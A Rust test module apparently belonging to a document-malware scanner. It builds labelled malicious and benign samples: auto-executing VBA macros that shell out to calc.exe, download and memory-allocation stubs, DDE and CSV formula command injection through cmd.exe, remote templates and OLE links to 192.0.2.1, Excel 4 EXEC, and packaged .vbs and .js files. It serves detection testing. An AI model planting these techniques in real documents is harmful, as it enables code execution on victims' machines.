//! Documents with and without what starts by itself.

use std::io::{Cursor, Write};

use super::{Sample, labelled, text};

/// [MS-OVBA] §2.4.1 compression without any compression: literals only.
fn compress(source: &[u8]) -> Vec<u8> {
    let mut out = vec![1];
    for part in source.chunks(3_500) {
        let mut chunk = Vec::new();
        for literals in part.chunks(8) {
            chunk.push(0);
            chunk.extend_from_slice(literals);
        }
        out.extend((0xb000 | u16::try_from(chunk.len() - 1).unwrap()).to_le_bytes());
        out.extend(chunk);
    }
    out
}

fn compound(streams: &[(&str, &[u8])]) -> Vec<u8> {
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    for (path, content) in streams {
        if let Some((storage, _)) = path.rsplit_once('/').filter(|(storage, _)| !storage.is_empty()) {
            file.create_storage_all(storage).unwrap();
        }
        file.create_stream(path).unwrap().write_all(content).unwrap();
    }
    file.into_inner().into_inner()
}

fn macros(root: &str, source: &str) -> Vec<u8> {
    let module = [&[0xfe; 300][..], &compress(&text(&format!("Attribute VB_Name = \"Module1\"\r\n{source}\r\n")))].concat();
    compound(&[
        (&format!("{root}/VBA/dir"), &compress(b"dir")),
        (&format!("{root}/VBA/_VBA_PROJECT"), b"\xcc\x61"),
        (&format!("{root}/VBA/Module1"), &module),
    ])
}

fn word(source: &str) -> Vec<u8> {
    macros("/Macros", source)
}

fn package(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, content) in parts {
        writer.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
        writer.write_all(content).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

const TYPES: &str = "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
const RELATIONS: &str = "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/></Relationships>";

/// A Word document with these words in its body, and further parts.
fn docx(body: &str, more: &[(&str, &[u8])]) -> Vec<u8> {
    let document = text(&format!(
        "<?xml version=\"1.0\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p>{body}</w:p></w:body></w:document>"
    ));
    let mut parts: Vec<(&str, &[u8])> =
        vec![("[Content_Types].xml", TYPES.as_bytes()), ("_rels/.rels", RELATIONS.as_bytes()), ("word/document.xml", &document)];
    parts.extend(more);
    package(&parts)
}

fn relation(kind: &str, target: &str) -> Vec<u8> {
    text(&format!(
        "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
    ))
}

fn object(class: &str, data: &[u8]) -> String {
    let length = |bytes: usize| u32::try_from(bytes).unwrap().to_le_bytes();
    let class = text(&format!("{class}\0"));
    hex::encode([&b"\x01\x05\0\0\x02\0\0\0"[..], &length(class.len()), &class, &[0; 8], &length(data.len()), data].concat())
}

/// The stream of a package ([MS-OLEDS] §2.3.6): size, type, label, path, its kind, another path, size of the data, data.
fn native(name: &str) -> Vec<u8> {
    let name = name.replace('·', "");
    let path = format!("C:\\x\\{name}\0");
    let length = |bytes: usize| u32::try_from(bytes).unwrap().to_le_bytes();
    let rest = [b"\x02\0", name.as_bytes(), b"\0", path.as_bytes(), &[0, 0, 3, 0], &length(path.len()), path.as_bytes(), &length(1), b"x"].concat();
    [&length(rest.len())[..], &rest].concat()
}

fn basic(code: &str) -> Vec<u8> {
    let module = text(&format!(
        "<script:module xmlns:script=\"http://openoffice.org/2000/script\" script:name=\"Module1\" script:language=\"StarBasic\">{code}</script:module>"
    ));
    let mimetype = b"application/vnd.oasis.opendocument.text";
    package(&[("mimetype", mimetype), ("content.xml", b"<office:document-content/>"), ("Basic/Standard/Module1.xml", &module)])
}

pub(super) fn samples() -> Vec<Sample> {
    let hidden = format!("Sub Docu·ment_Open()\r\n x = {}\r\nEnd Sub", ["Chr(65)"; 80].join(" & "));
    let shell = "Sub Auto·Open()\r\n Sh·ell(\"calc.exe\")\r\nEnd Sub";
    let project = macros("", shell);
    let harmless = macros("", "Sub Tidy()\r\n Range(\"A1\").Value = 1\r\nEnd Sub");
    let instruction = |text: &str| format!("<w:fldSimple w:instr=\"{text}\"/>");
    let rtf = |class: &str, data: &[u8]| text(&format!("{{\\rtf1{{\\object\\objemb{{\\*\\objdata {}}}}}}}", object(class, data)));
    let sheet =
        text("<xm:macro·sheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><c><f>EX·EC(\"calc\")</f></c></xm:macrosheet>");
    let link = text(&format!("{{\\rtf1{{\\object\\objaut·link\\objup·date{{\\*\\objdata {}}}}}}}", object("OLE2·Link", b"")));
    let samples = vec![
        ("Macro.AutoExec.Shell", true, "doc", word(shell)),
        (
            "Macro.AutoExec.Download",
            true,
            "xls",
            macros(
                "/_VBA_PROJECT_CUR",
                "Sub Work·book_Open()\r\n CreateObject(\"MSXML2.XML·HTTP\")\r\n CreateObject(\"ADODB.Str·eam\").SaveTo·File \"a\"\r\nEnd Sub",
            ),
        ),
        ("Macro.AutoExec.Obfuscated", true, "doc", word(&hidden)),
        (
            "Macro.AutoExec.Inject",
            true,
            "doc",
            word("Declare Function Virtual·Alloc Lib \"kernel32\" ()\r\nSub Auto_·Open()\r\n Virtual·Alloc\r\nEnd Sub"),
        ),
        ("Macro.AutoExec.Shell", true, "docm", docx("<w:r><w:t>x</w:t></w:r>", &[("word/vbaProject.bin", &project)])),
        ("DDE", true, "docx", docx(&instruction("DDE·AUTO c:\\\\windows\\\\system32\\\\cm·d.exe &quot;/k calc&quot;"), &[])),
        ("DDE", true, "csv", text("name,value\na,=cm·d|'/c calc'!A0\n")),
        ("RemoteTemplate", true, "docx", docx("", &[("word/_rels/settings.xml.rels", &relation("attached·Template", "http://192.0.2.1/t.dotm"))])),
        ("RemoteObject", true, "docx", docx("", &[("word/_rels/document.xml.rels", &relation("ole·Object", "http://192.0.2.1/a.html"))])),
        (
            "Excel4",
            true,
            "xlsm",
            package(&[("[Content_Types].xml", TYPES.as_bytes()), ("xl/workbook.xml", b"<workbook/>"), ("xl/macrosheets/sheet1.xml", &sheet)]),
        ),
        ("RTF.Equation", true, "rtf", rtf("Equ·ation.3", b"x")),
        ("PackagedProgram", true, "rtf", rtf("Package", &native("invoice.v·bs")[4..])),
        ("RTF.UpdatingLink", true, "rtf", link),
        ("RTF.RemoteTemplate", true, "rtf", text("{\\rtf1{\\*\\temp·late http://192.0.2.1/a.dotm}}")),
        ("PackagedProgram", true, "doc", compound(&[("/ObjectPool/_1/\u{1}Ole10Native", &native("invoice.j·s"))])),
        ("Macro.Basic", true, "odt", basic("Sub Main\nSh·ell(&quot;cm·d.exe /c x&quot;)\nEnd Sub")),
        ("Heur.", false, "doc", word("Sub Format()\r\n Shell \"calc.exe\"\r\nEnd Sub")),
        ("Heur.", false, "doc", word("Sub Workbook_Open()\r\n Range(\"A1\").Value = 1\r\nEnd Sub")),
        ("Heur.", false, "docm", docx("<w:r><w:t>x</w:t></w:r>", &[("word/vbaProject.bin", &harmless)])),
        ("Heur.", false, "docx", docx("<w:r><w:t>Just words.</w:t></w:r>", &[])),
        ("Heur.", false, "docx", docx(&instruction("PAGE"), &[])),
        ("Heur.", false, "docx", docx("", &[("word/_rels/document.xml.rels", &relation("hyperlink", "https://example.org/"))])),
        ("Heur.", false, "docx", docx("", &[("word/_rels/settings.xml.rels", &relation("attachedTemplate", "file:///C:\\x\\Normal.dotm"))])),
        ("Heur.", false, "csv", text("name,value\na|'b',1\nc,=SUM(A1:A2)\n")),
        ("Heur.", false, "rtf", rtf("Excel.Sheet.8", &[0xd0; 200])),
        ("Heur.", false, "rtf", text("{\\rtf1\\ansi hello \\b world\\b0 {\\*\\template C:\\\\x\\\\Normal.dotm}{\\field{\\*\\fldinst PAGE}}}")),
        ("Heur.", false, "doc", compound(&[("/ObjectPool/_1/\u{1}Ole10Native", &native("table.xlsx"))])),
        ("Heur.", false, "odt", basic("Sub Main\nMsgBox &quot;hello&quot;\nEnd Sub")),
    ];
    labelled("Documents", samples)
}
